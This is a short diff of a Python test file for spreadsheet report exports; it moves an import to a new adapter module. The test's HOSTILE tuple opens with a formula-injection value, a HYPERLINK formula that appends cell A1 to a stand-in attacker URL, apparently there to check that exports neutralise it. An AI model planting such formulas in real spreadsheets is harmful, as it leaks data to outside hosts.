@@ -9,7 +9,7 @@ from typing import Any
 import openpyxl
 import pytest
 
-from services.reporting.exports import compliance_xlsx, monthly_xlsx
+from services.reporting.adapters.xlsx import compliance_xlsx, monthly_xlsx
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
